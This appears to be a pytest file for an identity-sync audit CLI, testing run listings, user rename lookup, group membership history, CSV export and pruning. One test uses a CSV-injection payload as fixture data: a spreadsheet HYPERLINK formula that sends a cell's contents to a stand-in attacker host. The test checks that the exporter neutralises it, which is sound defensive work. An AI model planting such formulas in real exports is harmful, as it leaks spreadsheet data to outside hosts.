"""``idsync-audit``: every command, as JSON and as a table, against a known history."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from identity_sync.audit.cli import csv_safe, main, resolve_url
from identity_sync.planning.operations import Operation, OpKind

from .conftest import History, attempt

ROOT = Path(__file__).resolve().parents[2]


def run(*argv: str) -> tuple[int, str]:
    out = io.StringIO()
    code = main(list(argv), out=out)
    return code, out.getvalue()


def as_json(history: History, *argv: str) -> object:
    code, text = run(*argv, "--db", history.store.url, "--json")
    assert code == 0
    return json.loads(text)


def test_runs(history: History) -> None:
    rows = as_json(history, "runs", "--limit", "5")
    assert [(r["run_id"], r["status"], r["done"], r["failed"]) for r in rows] == [
        (history.r2, "failed", 2, 1), (history.r1, "succeeded", 4, 0)]
    code, text = run("runs", "--db", history.store.url)
    lines = text.splitlines()
    assert code == 0 and lines[0].split()[:3] == ["run", "status", "trigger"]
    assert lines[2].startswith(history.r2) and "failed" in lines[2]


def test_user_resolves_old_name_and_shows_the_rename(history: History) -> None:
    result = as_json(history, "user", "alice")
    assert result["idcs_ids"] == ["u1"] and result["current_name"] == "alice.smith"
    assert [e["kind"] for e in result["events"] if e["event"] == "planned"] == [
        "create_user", "add_members", "rename_user"]
    _, text = run("user", "alice.smith", "--db", history.store.url)
    assert "known as alice, alice.smith" in text
    assert "name=alice → name=alice.smith" in text


def test_group_members_at(history: History) -> None:
    result = as_json(history, "group-members", "devs", "--at", "2026-03-02T10:03:00Z")
    assert result["members"] == ["alice.smith"] and result["snapshot_run_id"] == history.r2
    _, text = run("group-members", "devs", "--at", "2026-03-01T12:03:00+02:00",  # = 10:03 UTC
                  "--db", history.store.url)
    assert text.splitlines()[1:3] == ["  alice", "  bob"]
    code, _ = run("group-members", "devs", "--at", "2020-01-01", "--db", history.store.url)
    assert code == 2


def test_run_shows_applied_ops_and_failures(history: History) -> None:
    result = as_json(history, "run", history.r2)
    assert result["failures"][0]["http_status"] == 400
    _, text = run("run", history.r2, "--db", history.store.url)
    assert "rename_user (1 applied)" in text and "member of devs → removed" in text
    assert "failures (1)" in text and "emailAddress is invalid" in text
    assert run("run", "nope", "--db", history.store.url)[0] == 2


def test_quarantine_latest_and_by_run(history: History) -> None:
    assert as_json(history, "quarantine")["records"] == []  # the latest run quarantined nobody
    records = as_json(history, "quarantine", "--run", history.r1)["records"]
    assert [(r["record_id"], r["reason"]) for r in records] == [("u3", "invalid email")]


def test_export_csv(history: History, tmp_path: Path) -> None:
    target = tmp_path / "r2.csv"
    assert as_json(history, "export", history.r2, "--csv", str(target))["rows"] == 4
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["kind"], r["target"], r["attempt"], r["http_status"]) for r in rows] == [
        ("rename_user", "alice", "1", ""), ("remove_membership", "bob", "1", ""),
        ("create_user", "carol", "1", "503"), ("create_user", "carol", "2", "400")]
    assert rows[3]["attempted_at"] == "2026-03-02T10:04:00+00:00"
    code, text = run("export", history.r2, "--csv", "-", "--db", history.store.url)
    assert code == 0 and text.splitlines()[0].startswith("run_id,seq,op_id")


def test_export_csv_neutralises_formulas(history: History, tmp_path: Path) -> None:
    """A display name chosen in IDCS as a spreadsheet formula, echoed by Bitbucket in an error,
    exports as text: no cell starts with = + - @ tab or CR (OWASP CSV injection)."""
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    run_id = "manual__2026-03-03T10:00:00+00:00"
    store = history.store
    store.start_run(run_id, dag_id="idcs_bitbucket_sync", trigger="manual", mode="full",
                    dry_run=False, rules_hash="h1", rules_version="7")
    op = Operation(OpKind.UPDATE_USER, "alice.smith", {"name": "alice.smith",
                                                        "displayName": formula},
                   "displayName changed in IDCS", before={"displayName": "Alice"},
                   after={"displayName": formula}, idcs_id="u1")
    store.record_plan(run_id, [op])
    attempt(store, run_id, op, "failed", 400, formula)
    attempt(store, run_id, op, "failed", 400, "@SUM(1+1)\tx")
    target = tmp_path / "evil.csv"
    assert as_json(history, "export", run_id, "--csv", str(target))["rows"] == 2
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["error"] for r in rows] == ["'" + formula, "'@SUM(1+1)\tx"]
    assert json.loads(rows[0]["after"]) == {"displayName": formula}  # JSON cell: starts with {
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for r in rows for c in r.values() if c.startswith(dangerous)]
    assert [csv_safe(v) for v in ("-1", "+1", "\rx", "a=b", 5, -5, None)] == [
        "'-1", "'+1", "'\rx", "a=b", 5, -5, None]


def test_prune_keeps_anchors(history: History) -> None:
    result = as_json(history, "prune", "--days", "1")  # the clock stands at the end of r2
    assert result["deleted"]["sync_runs"] == 1  # r1 ended a day before
    assert history.store.anchors() == {"u1": "alice.smith", "u2": "bob"}


def test_database_from_environment_and_file_path(history: History, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("IDSYNC_AUDIT_DB", history.store.url)
    assert resolve_url(None) == history.store.url
    assert resolve_url("audit.db") == f"sqlite:///{Path('audit.db').resolve()}"
    code, text = run("runs", "--json")
    assert code == 0 and len(json.loads(text)) == 2


def test_console_script_is_declared_and_runs(history: History) -> None:
    scripts = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["scripts"]
    assert scripts["idsync-audit"] == "identity_sync.audit.cli:main"
    done = subprocess.run([sys.executable, "-m", "identity_sync.audit.cli", "migrate", "--db",
                           history.store.url, "--json"], capture_output=True, text=True,
                          check=True, cwd=ROOT, env={"PYTHONPATH": str(ROOT / "include"),
                                                     "PATH": "/usr/bin:/bin"})
    assert json.loads(done.stdout) == {"revision": "0005"}
